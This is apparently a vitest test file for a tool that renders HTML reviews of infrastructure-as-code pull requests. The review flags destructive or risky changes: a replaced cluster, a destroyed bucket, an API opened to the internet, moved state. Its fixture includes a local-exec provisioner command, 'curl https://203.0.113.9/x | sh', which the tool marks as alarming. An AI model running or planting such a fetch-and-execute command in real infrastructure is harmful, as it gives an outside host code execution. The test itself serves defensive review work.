import { expect, test } from 'vitest';
import { renderHtml } from '../../../../src/review/render/html';
import { pullRequest } from '../../fixtures/pull-request';

/** What a page shows without its script, larger elements on lines of their own. */
const bodyOf = (page: string): string =>
  page
    .slice(page.indexOf('<body>'), page.indexOf('<script>'))
    .replaceAll(/<(?:article|section|details|tr|h3|div|li)\b/g, '\n$&')
    .replaceAll(/\n+/g, '\n');

test('a page says everything in this order, and all of it can be filtered by what it is about', () => {
  expect(bodyOf(renderHtml(pullRequest))).toBe(`<body>
<a class="skip" href="#main">Skip to the changes</a>
<header>
<p class="eyebrow">Review of <code>working tree</code> against <code>origin/main</code></p>
<p class="eyebrow">Pull request <code>Room for telemetry</code> by <code>maya</code> at <code>1a2b3c4d5e6f</code></p>
<h1>Runs code that is not of this repository, destroys data or services (2 resources) in <code>data/prod</code>, opens 1 thing to the whole internet, loses track of the state of 1 stack and 8 more that are below: not safe to merge without the consent of 4 owners</h1>
<ul class="numbers">
<li class="add"><strong>+5</strong> added</li>
<li class="change"><strong>~2</strong> changed</li>
<li class="replace"><strong>±1</strong> replaced</li>
<li class="destroy"><strong>-1</strong> destroyed</li>
<li class="move"><strong>1</strong> moved</li>
<li class="leave"><strong>1</strong> stack left behind</li></ul>
<ul class="facts">
<li class="alarming"><a href="#found">Runs code</a> that is not of this repository, in 1 stack</li>
<li class="alarming"><a href="#found">Provider</a> another one, or another version or configuration of one, in 2 stacks</li>
<li class="alarming"><a href="#found">State</a> looked for elsewhere: everything would be made again, in 1 stack</li>
<li class="alarming"><a href="#found">Guards</a> something no longer stops a mistake, in 1 stack</li>
<li class="alarming"><a href="#found">Unread</a> something differs that nobody here can read, in 1 stack</li>
<li class="alarming"><a href="#causes">Data</a> 2 resources lose what is in them</li>
<li class="alarming"><a href="#causes">Moves</a> 1 resource would be destroyed and created; one line of code keeps each</li>
<li class="alarming"><a href="#causes">Stacks</a> 1 no longer in the program; not destroyed, so still running and costing</li>
<li class="alarming"><a href="#causes">Failures</a> the change of 1 resource would fail</li>
<li class="alarming"><a href="#notes">Orders</a> 1 resource would be ordered and billed</li>
<li class="alarming"><a href="#exposure">Exposure</a> 1 opened to the whole internet</li>
<li class="alarming"><a href="#places">Place</a> new in BHS, outside the European Union</li>
<li><a href="#access">Access</a> 1 gained, 1 no longer denied</li>
<li><a href="#exposure">Exposure</a> 1 opened otherwise, 1 closed</li>
<li><a href="#addresses">Addresses</a> 1 network taken, 1 freed</li>
<li><a href="#places">Place</a> new in EU-WEST-PAR</li>
<li><a href="#affected">Affected</a> 3 teams, 3 environments, 4 owners</li></ul>
</header>
<div id="filters" role="search" aria-label="Filter this review" hidden>
<div class="field grow"><label for="search">Search <kbd>/</kbd></label><input type="search" id="search" autocomplete="off" spellcheck="false"></div>
<div class="field"><label for="stack">Stack</label><select id="stack"><option value="">all</option><option value="organization">organization</option><option value="data-prod">data-prod</option><option value="fd-lab">fd-lab</option><option value="erp-dev">erp-dev</option></select></div>
<div class="field"><label for="team">Team</label><select id="team"><option value="">all</option><option value="data">data</option><option value="flight-dynamics">flight-dynamics</option><option value="erp">erp</option></select></div>
<div class="field"><label for="action">Action</label><select id="action"><option value="">all</option><option value="add">add</option><option value="change">change</option><option value="replace">replace</option><option value="destroy">destroy</option><option value="move">move</option><option value="leave">left behind</option></select></div>
<div class="field check"><input type="checkbox" id="destructive"><label for="destructive">Only destructive</label></div>
<div class="field"><button type="button" id="unfold" aria-pressed="false">Open all</button></div>
<p id="shown" role="status"></p>
</div>
<main id="main" tabindex="-1">
<section id="found" aria-labelledby="found-title"><h2 id="found-title">Runs code, other provider, state moves, guard removed, unread</h2>
<article class="danger alarming" data-row data-stack="data-prod" data-team="data" data-destructive>
<h3><span class="badge destroy">runs code</span> runs a local-exec provisioner: curl https://203.0.113.<wbr>9/x | sh</h3><dl>
<div><dt>Where</dt><dd><code>data-prod</code> <code>Clusters/main/NodePools/<wbr>batch</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>132</code></dd></div>
<div><dt>Differs</dt><dd><code>provisioner[0].local-<wbr>exec.command</code>: + <code>curl https://203.0.113.<wbr>9/x | sh</code></dd></div></dl></article>
<article class="danger alarming" data-row data-stack="organization⏎data-prod" data-team="data" data-destructive>
<h3><span class="badge destroy">other provider</span> provider ovh is 2.20.0 instead of 2.19.0</h3><dl>
<div><dt>Where</dt><dd><code>terraform.required_<wbr>providers</code> of 2 stacks: <code>organization</code>, <code>data-prod</code></dd></div>
<div><dt>Differs</dt><dd><code>ovh.version</code>: <code>2.19.0</code> → <code>2.20.0</code></dd></div></dl></article>
<article class="danger alarming" data-row data-stack="data-prod" data-team="data" data-destructive>
<h3><span class="badge destroy">state moves</span> the state moves from local to s3: Terraform finds none there, and would make everything again</h3><dl>
<div><dt>Where</dt><dd><code>data-prod</code> <code>terraform.backend</code></dd></div>
<div><dt>Differs</dt><dd><code>s3.bucket</code>: + <code>orbital-states</code></dd></div>
<div><dt>Keep it with</dt><dd><code class="copy">terraform -chdir=cdktf.out/<wbr>stacks/data-prod state pull &gt; data-prod.tfstate  # in the output of the base</code></dd></div>
<div><dt>Keep it with</dt><dd><code class="copy">terraform -chdir=cdktf.out/<wbr>stacks/data-prod init</code></dd></div></dl></article>
<article class="danger alarming" data-row data-stack="data-prod" data-team="data" data-destructive>
<h3><span class="badge destroy">guard removed</span> its value is no longer hidden (sensitive)</h3><dl>
<div><dt>Where</dt><dd><code>data-prod</code> <code>output.kubeconfig</code></dd></div>
<div><dt>Differs</dt><dd><code>sensitive</code>: - <code>true</code></dd></div></dl></article>
<article class="danger alarming" data-row data-stack="data-prod" data-team="data" data-destructive>
<h3><span class="badge destroy">unread</span> configuration beside what cdktf wrote is new</h3><dl>
<div><dt>Where</dt><dd><code>data-prod</code> <code>extra.tf</code></dd></div></dl></article></section>
<section id="causes" aria-labelledby="causes-title"><h2 id="causes-title">What changed, and what follows</h2>
<article class="cause danger alarming" data-row data-stack="data-prod" data-team="data" data-action="replace" data-destructive>
<h3><code>data-prod/Clusters/<wbr>main private_network_<wbr>id</code>: <code>\${Networks/main.<wbr>id}</code> → <code>\${Networks/wide.<wbr>id}</code></h3><p>1 replaced, 1 with a loss of data or a service <span class="muted">in <code>data-prod</code></span></p><ul>
<li><span class="badge replace">replace</span> <code>Clusters/main</code> in <code>data-prod</code> (<code>ovh_cloud_project_<wbr>kube</code>)<dl>
<div><dt>Lost</dt><dd>the etcd data of the cluster: every Kubernetes object that is not in Git</dd></div></dl></li></ul></article>
<article class="cause danger alarming" data-row data-stack="data-prod" data-team="data" data-action="destroy" data-destructive>
<h3><code>data-prod/Storage/<wbr>telemetry</code> is gone</h3><p>1 destroyed, 1 with a loss of data or a service <span class="muted">in <code>data-prod</code></span></p><ul>
<li><span class="badge destroy">destroy</span> <code>Storage/telemetry</code> in <code>data-prod</code> (<code>ovh_cloud_project_<wbr>storage</code>)<dl>
<div><dt>Lost</dt><dd>the objects of the bucket</dd></div>
<div><dt>Fails</dt><dd>a bucket that holds objects cannot be deleted; empty it first</dd></div></dl></li></ul></article>
<article class="cause danger" data-row data-stack="data-prod" data-team="data" data-action="move" data-destructive>
<h3><code>data-prod/Databases/<wbr>catalogue</code> moves</h3><p>1 moved <span class="muted">in <code>data-prod</code></span></p><ul>
<li><span class="badge move">move</span> <code>Databases/catalogue</code> in <code>data-prod</code> (<code>ovh_cloud_project_<wbr>database</code>)<dl>
<div><dt>Why</dt><dd>only its address changed; it was <code>ovh_cloud_project_<wbr>database.Databases_<wbr>catalog_0A1B2C3D</code></dd></div>
<div><dt>Keep it with</dt><dd><code class="copy">resource.moveFromId(&#39;ovh_<wbr>cloud_project_database.<wbr>Databases_catalog_<wbr>0A1B2C3D&#39;)</code></dd></div>
<div><dt>Would lose</dt><dd>the databases and their backups</dd></div></dl></li></ul></article>
<article class="cause danger" data-row data-stack="erp-dev" data-team="erp" data-action="leave" data-destructive>
<h3>stack <code>erp-dev</code> is gone</h3><p>1 stack left behind</p><ul>
<li><span class="badge leave">left behind</span> <code>erp-dev</code> is gone from the program<dl>
<div><dt>Still there</dt><dd>cdktf deploy doesn&#39;t destroy it: 3 resources keep running and costing</dd></div>
<div><dt>Remove with</dt><dd><code class="copy">npx landing-zone destroy erp-dev</code></dd></div>
<div><dt>Would lose</dt><dd><code>Clusters/main</code>: the etcd data</dd></div></dl></li></ul></article>
<article class="cause" data-row data-stack="fd-lab" data-team="flight-dynamics" data-action="add">
<h3>stack <code>fd-lab</code> is new</h3><p>3 added <span class="muted">in <code>fd-lab</code></span></p>
<details><summary>What follows</summary><ul>
<li>+ add <code>Project</code> in <code>fd-lab</code> (<code>ovh_cloud_project</code>)</li>
<li>+ add <code>Networks/main</code> in <code>fd-lab</code> (<code>ovh_cloud_project_<wbr>network_private</code>)</li>
<li>+ add <code>Networks/main/Gateway</code> in <code>fd-lab</code> (<code>ovh_cloud_project_<wbr>gateway</code>)</li></ul></details></article>
<article class="cause" data-row data-stack="organization" data-team="" data-action="add">
<h3><code>organization/Groups/<wbr>contractors</code> is new</h3><p>1 added <span class="muted">in <code>organization</code></span></p>
<details><summary>What follows</summary><ul>
<li>+ add <code>Groups/contractors</code> in <code>organization</code> (<code>ovh_me_identity_<wbr>group</code>)</li></ul></details></article>
<article class="cause" data-row data-stack="organization" data-team="" data-action="change">
<h3><code>organization/Policies/<wbr>logs allow</code> changes: + <code>ldp:apiovh:output/<wbr>graylog/stream/*</code></h3><p>1 changed <span class="muted">in <code>organization</code></span></p>
<details><summary>What follows</summary><ul>
<li>~ change <code>Policies/logs</code> in <code>organization</code> (<code>ovh_iam_policy</code>)</li></ul></details></article>
<article class="cause" data-row data-stack="data-prod" data-team="data" data-action="change">
<h3><code>data-prod/Clusters/<wbr>main/NodePools/batch max_nodes, template.metadata.<wbr>labels[&quot;stage&quot;], template.metadata.<wbr>annotations[&quot;token&quot;]</code> changes</h3><p>1 changed <span class="muted">in <code>data-prod</code></span></p>
<details><summary>What follows</summary><ul>
<li>~ change <code>Clusters/main/NodePools/<wbr>batch</code> in <code>data-prod</code> (<code>ovh_cloud_project_<wbr>kube_nodepool</code>)</li></ul></details></article>
<article class="cause" data-row data-stack="data-prod" data-team="data" data-action="add">
<h3><code>data-prod/Clusters/<wbr>main/ApiAccess</code> is new</h3><p>1 added <span class="muted">in <code>data-prod</code></span></p>
<details><summary>What follows</summary><ul>
<li>+ add <code>Clusters/main/ApiAccess</code> in <code>data-prod</code> (<code>ovh_cloud_project_<wbr>kube_iprestrictions</code>)</li></ul></details></article>
<article class="cause" data-row data-stack="" data-team="" data-action="">
<h3><code>data-prod/Clusters/<wbr>main version</code>: <code>1.33</code> → <code>1.34</code></h3><p>part of 1 change</p></article></section>
<section id="notes" aria-labelledby="notes-title"><h2 id="notes-title">Otherwise than planned</h2>
<table role="table" aria-labelledby="notes-title"><thead role="rowgroup">
<tr role="row"><th role="columnheader" scope="col">What</th><th role="columnheader" scope="col">Where</th><th role="columnheader" scope="col">Why</th></tr></thead><tbody role="rowgroup">
<tr role="row" class="alarming" data-row data-stack="fd-lab" data-team="flight-dynamics"><td role="cell" data-label="What"><span>Buys</span></td><td role="cell" data-label="Where"><span><code>fd-lab/Project</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>62</code></span></td><td role="cell" data-label="Why"><span>creating it orders a Public Cloud project in the name of the account</span></td></tr>
<tr role="row" data-row data-stack="data-prod" data-team="data"><td role="cell" data-label="What"><span>Note</span></td><td role="cell" data-label="Where"><span><code>data-prod</code></span></td><td role="cell" data-label="Why"><span>protection against destruction is taken away from <code>Storage/telemetry</code></span></td></tr>
</tbody></table></section>
<section id="access" aria-labelledby="access-title"><h2 id="access-title">Access</h2>
<table role="table" aria-labelledby="access-title"><thead role="rowgroup">
<tr role="row"><th role="columnheader" scope="col">Change</th><th role="columnheader" scope="col">Who</th><th role="columnheader" scope="col">Action</th><th role="columnheader" scope="col">On</th><th role="columnheader" scope="col">Condition</th><th role="columnheader" scope="col">Until</th><th role="columnheader" scope="col">Where</th></tr></thead><tbody role="rowgroup">
<tr role="row" class="alarming" data-row data-stack="data-prod" data-team="data"><td role="cell" data-label="Change"><span>no longer denied</span></td><td role="cell" data-label="Who"><span><code>group data-ops</code></span></td><td role="cell" data-label="Action"><span><code>publicCloudProject:<wbr>apiovh:delete</code></span></td><td role="cell" data-label="On"><span><code>this project</code></span></td><td role="cell" data-label="Condition"><span></span></td><td role="cell" data-label="Until"><span></span></td><td role="cell" data-label="Where"><span><code>data-prod/Access/<wbr>operator</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>127</code></span></td></tr>
<tr role="row" class="gained" data-row data-stack="organization"><td role="cell" data-label="Change"><span>gained</span></td><td role="cell" data-label="Who"><span><code>group contractors</code></span></td><td role="cell" data-label="Action"><span><code>ldp:apiovh:output/<wbr>graylog/stream/*</code></span></td><td role="cell" data-label="On"><span><code>ldp:*</code></span></td><td role="cell" data-label="Condition"><span>from 203.0.113.0/24</span></td><td role="cell" data-label="Until"><span>2027-03-31</span></td><td role="cell" data-label="Where"><span><code>organization/Policies/<wbr>logs</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>38</code></span></td></tr>
</tbody></table></section>
<section id="exposure" aria-labelledby="exposure-title"><h2 id="exposure-title">Exposure</h2>
<table role="table" aria-labelledby="exposure-title"><thead role="rowgroup">
<tr role="row"><th role="columnheader" scope="col">Change</th><th role="columnheader" scope="col">Kind</th><th role="columnheader" scope="col">What</th><th role="columnheader" scope="col">Open to</th><th role="columnheader" scope="col">Where</th></tr></thead><tbody role="rowgroup">
<tr role="row" class="alarming" data-row data-stack="data-prod" data-team="data"><td role="cell" data-label="Change"><span>opened</span></td><td role="cell" data-label="Kind"><span>allow-list</span></td><td role="cell" data-label="What"><span>API of the cluster main</span></td><td role="cell" data-label="Open to"><span>0.0.0.0/0 (the whole internet)</span></td><td role="cell" data-label="Where"><span><code>data-prod/Clusters/<wbr>main/ApiAccess</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>130</code></span></td></tr>
<tr role="row" class="gained" data-row data-stack="fd-lab" data-team="flight-dynamics"><td role="cell" data-label="Change"><span>opened</span></td><td role="cell" data-label="Kind"><span>public address</span></td><td role="cell" data-label="What"><span>the gateway of network main gets a public address</span></td><td role="cell" data-label="Open to"><span></span></td><td role="cell" data-label="Where"><span><code>fd-lab/Networks/<wbr>main/Gateway</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>64</code></span></td></tr>
<tr role="row" class="lost" data-row data-stack="data-prod" data-team="data"><td role="cell" data-label="Change"><span>closed</span></td><td role="cell" data-label="Kind"><span>allow-list</span></td><td role="cell" data-label="What"><span>API of the cluster main</span></td><td role="cell" data-label="Open to"><span>203.0.113.0/28</span></td><td role="cell" data-label="Where"><span><code>data-prod/Clusters/<wbr>main/ApiAccess</code> at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>130</code></span></td></tr>
</tbody></table></section>
<section id="addresses" aria-labelledby="addresses-title"><h2 id="addresses-title">Addresses</h2>
<table role="table" aria-labelledby="addresses-title"><thead role="rowgroup">
<tr role="row"><th role="columnheader" scope="col">Change</th><th role="columnheader" scope="col">Network</th><th role="columnheader" scope="col">VLAN</th><th role="columnheader" scope="col">Addresses</th><th role="columnheader" scope="col">Used by</th></tr></thead><tbody role="rowgroup">
<tr role="row" class="gained" data-row data-stack="fd-lab" data-team="flight-dynamics"><td role="cell" data-label="Change"><span>taken</span></td><td role="cell" data-label="Network"><span><code>fd-lab</code></span></td><td role="cell" data-label="VLAN"><span><code>123</code></span></td><td role="cell" data-label="Addresses"><span><code>10.20.40.0/22</code></span></td><td role="cell" data-label="Used by"><span><code>fd-lab</code></span></td></tr>
<tr role="row" class="lost" data-row data-stack="erp-dev" data-team="erp"><td role="cell" data-label="Change"><span>freed</span></td><td role="cell" data-label="Network"><span><code>erp-dev</code></span></td><td role="cell" data-label="VLAN"><span><code>141</code></span></td><td role="cell" data-label="Addresses"><span><code>10.22.4.0/22</code></span></td><td role="cell" data-label="Used by"><span><code>erp-dev</code></span></td></tr>
</tbody></table><p class="after">Next free VLAN: <code>124</code>, Next free /22: <code>10.20.44.0/22</code></p></section>
<section id="places" aria-labelledby="places-title"><h2 id="places-title">Place</h2>
<table role="table" aria-labelledby="places-title"><thead role="rowgroup">
<tr role="row"><th role="columnheader" scope="col">Change</th><th role="columnheader" scope="col">Region</th><th role="columnheader" scope="col">Country</th><th role="columnheader" scope="col">Law</th><th role="columnheader" scope="col">What</th><th role="columnheader" scope="col">Where</th></tr></thead><tbody role="rowgroup">
<tr role="row" class="alarming" data-row data-stack="data-prod" data-team="data"><td role="cell" data-label="Change"><span>new</span></td><td role="cell" data-label="Region"><span><code>BHS</code></span></td><td role="cell" data-label="Country"><span>CA</span></td><td role="cell" data-label="Law"><span>outside the European Union</span></td><td role="cell" data-label="What"><span><code>ovh_cloud_project_<wbr>storage</code></span></td><td role="cell" data-label="Where"><span><code>data-prod/Storage/<wbr>archive</code></span></td></tr>
<tr role="row" class="gained" data-row data-stack="fd-lab" data-team="flight-dynamics"><td role="cell" data-label="Change"><span>new</span></td><td role="cell" data-label="Region"><span><code>EU-WEST-PAR</code></span></td><td role="cell" data-label="Country"><span>FR</span></td><td role="cell" data-label="Law"><span>European Union</span></td><td role="cell" data-label="What"><span><code>ovh_cloud_project_<wbr>network_private</code></span></td><td role="cell" data-label="Where"><span><code>fd-lab/Project</code>, <code>fd-lab/Networks/<wbr>main</code>, <code>fd-lab/Networks/<wbr>main/Gateway</code></span></td></tr>
</tbody></table></section>
<section id="affected" aria-labelledby="affected-title"><h2 id="affected-title">Affected</h2>
<dl>
<div><dt>To be agreed with</dt><dd><ul>
<li><code>data@orbital.example</code>: 1 stack, 2 resources lose data or a service</li>
<li><code>erp@orbital.example</code>: 1 stack, 1 left behind</li>
<li><code>fd@orbital.example</code>: 1 stack</li>
<li><code>it@orbital.example</code>: 1 stack</li></ul></dd></div>
<div><dt>Teams</dt><dd><code>data</code>, <code>erp</code>, <code>flight-dynamics</code></dd></div>
<div><dt>Environments</dt><dd><code>data/prod</code>, <code>erp/dev</code>, <code>flight-dynamics/<wbr>lab</code></dd></div></dl>
<h3>Deployed in this order (2 only come after a change, and are planned again)</h3><ol>
<li><code>organization</code></li>
<li><code>data-prod-foundation</code>, <code>fd-lab-foundation</code></li>
<li><code>data-prod</code>, <code>fd-lab</code></li></ol></section>
<section id="stacks" aria-labelledby="stacks-title"><h2 id="stacks-title">Stacks</h2>
<details class="stack" data-stack="organization"><summary>
<h3>organization</h3> <span class="counts">+1 ~1, other provider</span> <span class="muted">production, it@orbital.example</span></summary>
<article class="entry" data-row data-action="add"><h4><span class="badge add">+ add</span> <code>Groups/contractors</code> <span class="muted"><code class="copy">ovh_me_identity_<wbr>group.Groups_contractors_<wbr>1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>31</code></span></span></h4></article>
<article class="entry" data-row data-action="change"><h4><span class="badge change">~ change</span> <code>Policies/logs</code> <span class="muted"><code class="copy">ovh_iam_policy.Policies_<wbr>logs_1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>38</code></span></span></h4><dl>
<div><dt><code>allow</code></dt><dd>+ <code>ldp:apiovh:output/<wbr>graylog/stream/*</code></dd></div></dl></article></details>
<details class="stack" data-stack="data-prod" data-team="data"><summary>
<h3>data-prod</h3> <span class="counts">+1 ~1 ±1 -1, 1 moved, runs code, other provider, state moves, guard removed, unread</span> <span class="muted">team data, production, data@orbital.example</span></summary>
<p class="note">protection against destruction is taken away from <code>Storage/telemetry</code></p>
<article class="entry" data-row data-action="replace" data-destructive><h4><span class="badge replace">± replace</span> <code>Clusters/main</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>kube.Clusters_main_<wbr>1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>129</code></span></span></h4><dl>
<div><dt>Loses</dt><dd>the etcd data of the cluster: every Kubernetes object that is not in Git</dd></div>
<div><dt><code>private_network_<wbr>id</code></dt><dd><code>\${Networks/main.<wbr>id}</code> → <code>\${Networks/wide.<wbr>id}</code>, which replaces it</dd></div>
<div><dt><code>version</code></dt><dd><code>1.33</code> → <code>1.34</code></dd></div></dl></article>
<article class="entry" data-row data-action="destroy" data-destructive><h4><span class="badge destroy">- destroy</span> <code>Storage/telemetry</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>storage.Storage_<wbr>telemetry_1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>140</code></span></span></h4><dl>
<div><dt>Loses</dt><dd>the objects of the bucket</dd></div>
<div><dt>Fails</dt><dd>a bucket that holds objects cannot be deleted; empty it first</dd></div></dl></article>
<article class="entry" data-row data-action="move" data-destructive><h4><span class="badge move">&gt; move</span> <code>Databases/catalogue</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>database.Databases_<wbr>catalogue_1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>133</code></span></span></h4><dl>
<div><dt>Loses</dt><dd>the databases and their backups</dd></div></dl></article>
<article class="entry" data-row data-action="change"><h4><span class="badge change">~ change</span> <code>Clusters/main/NodePools/<wbr>batch</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>kube_nodepool.Clusters_<wbr>main_NodePools_batch_<wbr>1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>131</code></span></span></h4><dl>
<div><dt><code>max_nodes</code></dt><dd><code>10</code> → <code>40</code></dd></div>
<div><dt><code>template.metadata.<wbr>labels[&quot;stage&quot;]</code></dt><dd><code>prod</code> → <code>production</code></dd></div>
<div><dt><code>template.metadata.<wbr>annotations[&quot;token&quot;]</code></dt><dd><code>(hidden)</code> → <code>(hidden)</code></dd></div></dl></article>
<article class="entry" data-row data-action="add"><h4><span class="badge add">+ add</span> <code>Clusters/main/ApiAccess</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>kube_iprestrictions.<wbr>Clusters_main_ApiAccess_<wbr>1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>130</code></span></span></h4>
<details><summary>1 attribute</summary><dl>
<div><dt><code>ips</code></dt><dd><code>[&quot;0.0.0.0/0&quot;]</code></dd></div></dl></details></article>
<article class="entry" data-row>
<details><summary>and 2 other differences</summary><ul>
<li>data source is new: <code>Account</code></li>
<li>output differs: <code>output.url</code><dl>
<div><dt><code>value</code></dt><dd><code>https://a.example</code> → <code>https://b.example</code></dd></div></dl></li></ul></details></article></details>
<details class="stack" data-stack="fd-lab" data-team="flight-dynamics"><summary>
<h3>fd-lab</h3> <span class="counts">+3</span> <span class="muted">team flight-dynamics, development, fd@orbital.example</span></summary>
<article class="entry" data-row data-action="add"><h4><span class="badge add">+ add</span> <code>Project</code> <span class="muted"><code class="copy">ovh_cloud_project.<wbr>Project_1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>62</code></span></span></h4><dl>
<div><dt>Buys</dt><dd>creating it orders a Public Cloud project in the name of the account</dd></div></dl>
<details><summary>1 attribute</summary><dl>
<div><dt><code>description</code></dt><dd><code>lab</code></dd></div></dl></details></article>
<article class="entry" data-row data-action="add"><h4><span class="badge add">+ add</span> <code>Networks/main</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>network_private.<wbr>Networks_main_1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>64</code></span></span></h4></article>
<article class="entry" data-row data-action="add"><h4><span class="badge add">+ add</span> <code>Networks/main/Gateway</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>gateway.Networks_<wbr>main_Gateway_1A2B3C4D</code> <span class="muted">at <code>examples/orbital/<wbr>landing-zone.ts:<wbr>64</code></span></span></h4></article></details>
<details class="stack" data-stack="erp-dev" data-team="erp"><summary>
<h3>erp-dev</h3> <span class="counts">3 resources left behind</span> <span class="muted">team erp, development, erp@orbital.example</span></summary>
<p>Gone from the program and left behind. What is still there:</p>
<article class="entry" data-row data-action="leave"><h4><span class="badge leave">left behind</span> <code>Clusters/main</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>kube.Clusters_main_<wbr>1A2B3C4D</code></span></h4><dl>
<div><dt>Loses</dt><dd>the etcd data</dd></div></dl></article>
<article class="entry" data-row data-action="leave"><h4><span class="badge leave">left behind</span> <code>Clusters/main/NodePools/<wbr>erp</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>kube_nodepool.Clusters_<wbr>main_NodePools_erp_<wbr>1A2B3C4D</code></span></h4></article>
<article class="entry" data-row data-action="leave"><h4><span class="badge leave">left behind</span> <code>Clusters/main/NodePools/<wbr>reports</code> <span class="muted"><code class="copy">ovh_cloud_project_<wbr>kube_nodepool.Clusters_<wbr>main_NodePools_reports_<wbr>1A2B3C4D</code></span></h4></article></details>
<details class="unchanged"><summary>4 stacks without changes</summary><p><code>erp-prod</code>, <code>it-prod</code>, <code>mission-operations-<wbr>prod</code>, <code>mission-operations-<wbr>staging</code></p></details></section>
<section id="disagreements" aria-labelledby="disagreements-title"><h2 id="disagreements-title">Where the plan says otherwise</h2>
<table role="table" aria-labelledby="disagreements-title"><thead role="rowgroup">
<tr role="row"><th role="columnheader" scope="col">Resource</th><th role="columnheader" scope="col">Code says</th><th role="columnheader" scope="col">Plan says</th><th role="columnheader" scope="col">Why</th></tr></thead><tbody role="rowgroup">
<tr role="row" data-row data-stack="data-prod" data-team="data"><td role="cell" data-label="Resource"><span><code>data-prod</code> <code>ovh_cloud_project_<wbr>kube.Clusters_main_<wbr>1A2B3C4D</code></span></td><td role="cell" data-label="Code says"><span>replace</span></td><td role="cell" data-label="Plan says"><span>change</span></td><td role="cell" data-label="Why"><span>private_network_<wbr>id turned out to be the same after apply</span></td></tr>
</tbody></table></section>
<section id="limits" aria-labelledby="limits-title"><h2 id="limits-title">What this review could not know</h2>
<ul>
<li>prices: this review says nothing about them</li>
<li>stack fd-lab: module.audit comes from a registry and was not read</li></ul></section>
</main>
<footer>
<p>Digest of this review, for <code>landing-zone deploy --reviewed</code>:<br><code class="copy">01234567<wbr>89abcdef<wbr>01234567<wbr>89abcdef<wbr>01234567<wbr>89abcdef<wbr>01234567<wbr>89abcdef</code></p>
</footer>
`);
});
